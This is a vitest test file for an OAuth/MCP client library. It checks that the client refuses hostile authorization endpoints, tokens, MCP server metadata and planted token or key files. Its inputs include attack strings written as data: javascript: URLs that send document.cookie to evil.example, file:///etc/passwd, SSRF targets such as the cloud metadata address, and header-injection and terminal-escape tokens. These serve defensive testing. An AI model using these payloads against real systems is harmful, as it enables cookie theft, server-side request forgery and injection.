/**
 * Hostile peers (#23): a compromised authorization server, a malicious MCP server and planted
 * files, each asserting what a careful client must do — refuse before anything is shown,
 * opened, sent or trusted — on strict msw (an unhandled request fails the test: nothing goes
 * where it was refused) and on the real file system. The CLI's doors are spawned in
 * test/e2e/cli.test.ts; the tabs' channel is watched in Chromium in test/browser/tabs.test.ts.
 */
import { mkdtempSync, readFileSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { http, HttpResponse } from 'msw'
import { afterEach, describe, expect, it, vi } from 'vitest'
import {
  buildAuthorizationUrl,
  buildEndSessionUrl,
  completeAuthorization,
  createContext,
  createSession,
  memoryStore,
  refreshGrant,
  startDeviceAuthorization,
  type TokenSet,
} from '../src/index.js'
import { createBrowserClient } from '../src/entries/browser.js'
import { createMcpAuth, type McpAuthOptions } from '../src/entries/mcp.js'
import { fileLock, fileStore } from '../src/entries/node.js'
import { platformResolver } from '../src/mcp/network.js'
import { ISSUER, metadata, tokenJson } from './support/as-mock.js'
import { AS, MCP, REDIRECT, mcpWorld, type WorldOptions } from './support/mcp-world.js'
import { failure, useStrictMsw } from './support/msw.js'

const msw = useStrictMsw()

/** Authorization endpoints a compromised server may publish, none of which a browser or a terminal may be given. */
const HOSTILE_URLS = [
  'javascript:alert(document.cookie)//',
  'data:text/html,<script>alert(1)</script>',
  'file:///etc/passwd',
  'vbscript:msgbox(1)',
  'ms-msdt:/id PCWDiagnostic /skip force',
  'smb://attacker.example/share',
  'http://as.attacker.example/authorize', // plain http off loopback
  'https://bank.example@attacker.example/authorize', // userinfo that misleads a reader
  'https://as.example.com/authorize x', // whitespace
  'https://as.example.com/authorize"onmouseover="x', // a quote
  'https://as.example.com/authorize\u001b]52;c;ZXZpbA==\u0007', // an escape sequence
  'https://as.example.com/author\nize', // a newline the URL parser would drop silently
]

const ctxWith = (extra: Record<string, unknown>) => createContext(metadata(ISSUER, extra), { clientId: 'app' })

describe('a compromised authorization server', () => {
  afterEach(() => vi.unstubAllGlobals())

  it('an authorization_endpoint that is not https (or http on loopback), or holds userinfo, whitespace, quotes or controls, is insecure_url before any URL is returned', async () => {
    for (const endpoint of HOSTILE_URLS) {
      const err = await failure(
        buildAuthorizationUrl(ctxWith({ authorization_endpoint: endpoint }), { redirectUri: 'https://app.example/cb' }),
      )
      expect(err.code, endpoint).toBe('insecure_url')
      // eslint-disable-next-line no-control-regex
      expect(err.message).not.toMatch(/alert|<script|passwd|\u001b/)
    }
    // The loopback exception is the transport's: a local development server passes.
    const local = await buildAuthorizationUrl(ctxWith({ authorization_endpoint: 'http://127.0.0.1:8080/authorize' }), {
      redirectUri: 'http://127.0.0.1:9/cb',
    })
    expect(local.url).toMatch(/^http:\/\/127\.0\.0\.1:8080\/authorize\?/)
  })

  it('with PAR required, a hostile authorization endpoint is refused before anything is pushed', async () => {
    const ctx = ctxWith({
      authorization_endpoint: 'javascript:alert(1)',
      pushed_authorization_request_endpoint: `${ISSUER}/par`,
      require_pushed_authorization_requests: true,
    })
    expect((await failure(buildAuthorizationUrl(ctx, { redirectUri: 'https://app.example/cb' }))).code).toBe('insecure_url')
    expect(msw.requests).toEqual([])
  })

  it('a hostile end_session_endpoint is insecure_url, never a URL to navigate to', () => {
    for (const endpoint of HOSTILE_URLS) {
      expect(() => buildEndSessionUrl(ctxWith({ end_session_endpoint: endpoint })), endpoint).toThrow(
        expect.objectContaining({ code: 'insecure_url' }),
      )
    }
  })

  it('a hostile verification_uri or verification_uri_complete is insecure_url, never shown to the user', async () => {
    for (const [field, value] of [
      ['verification_uri', 'javascript:alert(1)'],
      ['verification_uri_complete', 'https://evil.example/device\u001b[2J'],
    ] as const) {
      msw.server.use(
        http.post(`${ISSUER}/device`, () =>
          HttpResponse.json({
            device_code: 'dc',
            user_code: 'ABCD-EFGH',
            verification_uri: `${ISSUER}/device`,
            expires_in: 600,
            [field]: value,
          }),
        ),
      )
      const err = await failure(startDeviceAuthorization(ctxWith({ device_authorization_endpoint: `${ISSUER}/device` })))
      expect(err.code, field).toBe('insecure_url')
    }
  })

  it("the browser client's login() and logout() never navigate to a hostile URL (location.assign runs javascript: in the app's origin)", async () => {
    const location = { assign: vi.fn(), hash: '', href: 'https://app.example/' }
    vi.stubGlobal('location', location)
    const app = createBrowserClient({
      metadata: metadata(ISSUER, {
        authorization_endpoint: 'javascript:fetch("//evil.example/?"+document.cookie)',
        end_session_endpoint: 'javascript:alert(1)',
      }),
      clientId: 'spa',
      redirectUri: 'https://app.example/',
    })
    expect((await failure(app.login())).code).toBe('insecure_url')
    expect((await failure(app.logout())).code).toBe('insecure_url')
    expect(location.assign).not.toHaveBeenCalled()
  })

  it('tokens with characters outside VSCHAR (CR/LF, ESC, non-ASCII) are invalid_response at the token endpoint, and the message quotes none', async () => {
    for (const [field, token] of [
      ['access_token', 'at\r\nX-Injected: 1'],
      ['access_token', 'at\u001b]0;pwned\u0007'],
      ['refresh_token', 'rt-é'],
      ['id_token', 'a.b.c\n'],
    ] as const) {
      msw.server.use(
        http.post(`${ISSUER}/token`, () => tokenJson({ access_token: 'at-ok', token_type: 'Bearer', expires_in: 60, [field]: token })),
      )
      const err = await failure(refreshGrant(ctxWith({}), 'rt-1'))
      expect(err.code, JSON.stringify(token)).toBe('invalid_response')
      expect(err.message).toContain(field)
      expect(err.message).not.toContain(token)
    }
  })

  it('a stored token outside VSCHAR is no tokens (typed, nothing thrown raw); setTokens refuses one', async () => {
    const store = memoryStore({ accessToken: 'at\r\nEvil: 1', tokenType: 'Bearer', extra: {} })
    const session = createSession(ctxWith({}), { store, apiUrls: ['https://api.example.com'] })
    expect((await failure(session.getAccessToken())).code).toBe('sign_in_required')
    expect((await failure(session.setTokens({ accessToken: 'at\u001b[2J', tokenType: 'Bearer', extra: {} }))).code).toBe('invalid_config')
  })

  it('a DPoP-bound token held without its key (another process stored it) is never sent as Bearer', async () => {
    const store = memoryStore({ accessToken: 'bound-at', tokenType: 'DPoP', expiresAt: Date.now() + 3_600_000, extra: {} })
    const session = createSession(ctxWith({}), { store, apiUrls: ['https://api.example.com'] })
    const err = await failure(session.fetch('https://api.example.com/things'))
    expect(err.code).toBe('invalid_config')
    expect(err.message).toContain('DPoP')
    expect(msw.requests).toEqual([]) // no request reached the API, with or without the token
  })

  it("a 403 challenge's C1 controls and escape sequences reach no message; an error_uri stays whole", async () => {
    msw.server.use(
      http.get(
        'https://api.example.com/admin',
        () =>
          new HttpResponse(null, {
            status: 403,
            headers: {
              'www-authenticate':
                'Bearer error="insufficient_scope", scope="admin \u009b2J\u009d0;t\u009c", error_description="x\u001b[31my"',
            },
          }),
      ),
      http.post(`${ISSUER}/token`, () =>
        tokenJson({ error: 'invalid_grant', error_uri: 'https://docs.as.example/errors?code=7#invalid_grant' }, { status: 400 }),
      ),
    )
    const session = createSession(ctxWith({}), {
      tokens: { accessToken: 'at-1', tokenType: 'Bearer', expiresAt: Date.now() + 3_600_000, extra: {} },
      apiUrls: ['https://api.example.com'],
    })
    const denied = await failure(session.fetch('https://api.example.com/admin'))
    // eslint-disable-next-line no-control-regex
    for (const text of [denied.message, denied.scope, denied.errorDescription]) expect(text).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/)
    const refused = await failure(refreshGrant(ctxWith({}), 'rt-1'))
    expect(refused.errorUri).toBe('https://docs.as.example/errors?code=7#invalid_grant')
  })

  it('a callback URL that cannot be parsed is quoted with parameter names, never the code', async () => {
    const err = await failure(
      completeAuthorization(ctxWith({}), 'cb code=SECRET-CODE-123&state=s', {
        state: 's',
        codeVerifier: 'v'.repeat(43),
        redirectUri: 'https://app.example/cb',
      }),
    )
    expect(err.code).toBe('invalid_config')
    expect(String(err)).not.toContain('SECRET-CODE-123')
    expect(err.message).toContain('code=…')
  })
})

describe('a malicious MCP server', () => {
  /** Names resolved without DNS: the attacker's public names, and one that resolves into the client's network. */
  const resolveHost = (host: string) => (host === 'rebind.attacker.example' ? ['10.20.30.40'] : ['203.0.113.10'])
  function setup(world: WorldOptions = {}, options: Partial<McpAuthOptions> = {}) {
    const w = mcpWorld(world)
    msw.server.use(...w.handlers)
    const signIn = vi.fn((request: { url: string }) => w.signIn(request))
    const mcp = createMcpAuth({ serverUrl: MCP, redirectUri: REDIRECT, signIn, discoveryCache: false, resolveHost, ...options })
    return { ...w, mcp, signIn }
  }

  it('cannot make the client request loopback, private, link-local or unspecified addresses as its authorization server', async () => {
    for (const target of [
      'http://127.0.0.1:6379',
      'https://169.254.169.254/latest',
      'https://10.0.0.1',
      'https://192.168.1.1',
      'https://172.16.0.1',
      'https://localhost',
      'https://[::1]',
      'https://[fd00::1]',
      'https://[fe80::1]',
      'https://0.0.0.0',
      'https://[::ffff:127.0.0.1]',
      'https://rebind.attacker.example',
    ]) {
      const w = setup({ resourceMetadata: { resource: MCP, authorization_servers: [target] } })
      const err = await failure(w.call(w.mcp.fetch))
      expect(err.code, target).toBe('insecure_url')
      expect(err.message).toContain('allowPrivateNetwork')
      expect(w.signIn).not.toHaveBeenCalled()
    }
  })

  it("in Node the policy resolves names with the platform's DNS (no import: process.getBuiltinModule), as the default resolveHost", async () => {
    const resolve = platformResolver()
    expect(resolve).toBeTypeOf('function')
    // localhost resolves from the hosts file, without a query leaving the machine.
    const addresses = await resolve!('localhost')
    expect(addresses.length).toBeGreaterThan(0)
    expect(addresses.every((a) => a === '::1' || a.startsWith('127.'))).toBe(true)
  })

  it('nor as its registration, token or authorization endpoint', async () => {
    const registration = setup({ asMetadata: { [AS]: { registration_endpoint: 'https://192.168.0.10/register' } } })
    expect((await failure(registration.call(registration.mcp.fetch))).code).toBe('insecure_url')
    expect(registration.log.registrations).toEqual([])

    const authorization = setup({ asMetadata: { [AS]: { authorization_endpoint: 'https://127.0.0.1/authorize' } } })
    expect((await failure(authorization.call(authorization.mcp.fetch))).code).toBe('insecure_url')
    expect(authorization.signIn).not.toHaveBeenCalled()

    // Nor hand the user a script, a file or a share as the page to sign in at.
    for (const endpoint of ['javascript:alert(document.cookie)//', 'file:///etc/passwd', 'smb://attacker.example/share']) {
      const scripted = setup({ asMetadata: { [AS]: { authorization_endpoint: endpoint } } })
      expect((await failure(scripted.call(scripted.mcp.fetch))).code, endpoint).toBe('insecure_url')
      expect(scripted.signIn).not.toHaveBeenCalled()
    }

    const token = setup({ asMetadata: { [AS]: { token_endpoint: 'https://169.254.169.254/token' } } })
    expect((await failure(token.call(token.mcp.fetch))).code).toBe('insecure_url')
    expect(token.log.tokenRequests).toEqual([])
  })

  it('allowPrivateNetwork: true lets an app reach a private authorization server it means to use', async () => {
    let asked = 0
    msw.server.use(
      http.get('https://10.0.0.1/.well-known/oauth-authorization-server', () => (asked++, new HttpResponse(null, { status: 500 }))),
    )
    const w = setup({ resourceMetadata: { resource: MCP, authorization_servers: ['https://10.0.0.1'] } }, { allowPrivateNetwork: true })
    expect((await failure(w.call(w.mcp.fetch))).code).not.toBe('insecure_url')
    expect(asked).toBeGreaterThan(0)
  })

  it('its token goes only to URLs under the server URL: a same-origin redirect to another path gets none', async () => {
    const w = setup()
    expect((await w.call(w.mcp.fetch)).status).toBe(200) // signed in
    const seen: Array<string | null> = []
    msw.server.use(
      http.post(MCP, () => new HttpResponse(null, { status: 307, headers: { location: 'https://mcp.example/uploads/collect' } }), {
        once: true,
      }),
      http.post(
        'https://mcp.example/uploads/collect',
        ({ request }) => (seen.push(request.headers.get('authorization')), HttpResponse.json({ ok: true })),
      ),
    )
    expect((await w.call(w.mcp.fetch)).status).toBe(200)
    expect(seen).toEqual([null])
  })
})

describe('a planted file', () => {
  const dir = () => mkdtempSync(join(tmpdir(), 'oauthkit-planted-'))
  const tokens: TokenSet = { accessToken: 'at-1', tokenType: 'Bearer', extra: {} }

  it('a token file that is a symbolic link is refused, naming the path; the file it points to is never read', async () => {
    const d = dir()
    writeFileSync(join(d, 'elsewhere.json'), JSON.stringify({ tokens, version: 1 }), { mode: 0o600 })
    symlinkSync(join(d, 'elsewhere.json'), join(d, 'tokens.json'))
    const err = await failure(fileStore(join(d, 'tokens.json')).load())
    expect(err.code).toBe('invalid_config')
    expect(err.message).toContain(join(d, 'tokens.json'))
    expect(err.message).toContain('symbolic link')
  })

  it('a token file or DPoP key file the group or others may read is refused, naming the path and mode', async () => {
    const d = dir()
    writeFileSync(join(d, 'tokens.json'), JSON.stringify({ tokens, version: 1 }), { mode: 0o644 })
    const err = await failure(fileStore(join(d, 'tokens.json')).load())
    expect(err.code).toBe('invalid_config')
    expect(err.message).toContain('mode 0644')
    writeFileSync(join(d, 'fleet.json.dpop.json'), '{"kty":"EC"}', { mode: 0o640 })
    const key = await failure(Promise.resolve(fileStore(join(d, 'fleet.json')).keys!.get('dpop')))
    expect(key.message).toContain(`${join(d, 'fleet.json.dpop.json')} has mode 0640`)
  })

  it("a DPoP key planted as a symbolic link never becomes the fleet's key", async () => {
    const d = dir()
    writeFileSync(join(d, 'attacker-key.json'), '{"kty":"EC","d":"attacker"}', { mode: 0o600 })
    symlinkSync(join(d, 'attacker-key.json'), join(d, 'fleet.json.dpop.json'))
    const store = fileStore(join(d, 'fleet.json'))
    expect((await failure(Promise.resolve(store.keys!.get('dpop')))).message).toContain('symbolic link')
    // Saving "once" finds the name taken, and still reads nothing through the link.
    expect((await failure(store.keys!.setOnce!('dpop', '{"kty":"EC","d":"ours"}'))).code).toBe('invalid_config')
    expect(readFileSync(join(d, 'attacker-key.json'), 'utf8')).toContain('attacker')
  })

  it("a planted lock file claiming a ten-year lease (held by a live process) is taken over once the lease policy's maximum has passed", async () => {
    const d = dir()
    const path = join(d, 'tokens.json.lock')
    writeFileSync(path, JSON.stringify({ pid: process.pid, owner: 'planted', expiresAt: Date.now() + 10 * 365 * 86_400_000 }))
    // Written a second ago: with a 500 ms lease, the claim is over however long it says it lasts.
    const past = new Date(Date.now() - 1000)
    utimesSync(path, past, past)
    let holder: string | undefined
    await fileLock(path, { lease: 500, timeout: 20_000 }).run('refresh', async () => {
      holder = (JSON.parse(readFileSync(path, 'utf8')) as { owner: string }).owner
    })
    // The task ran holding the lock (its own owner in the file), not after waiting out the timeout without it.
    expect(holder).toBeDefined()
    expect(holder).not.toBe('planted')
  })
})
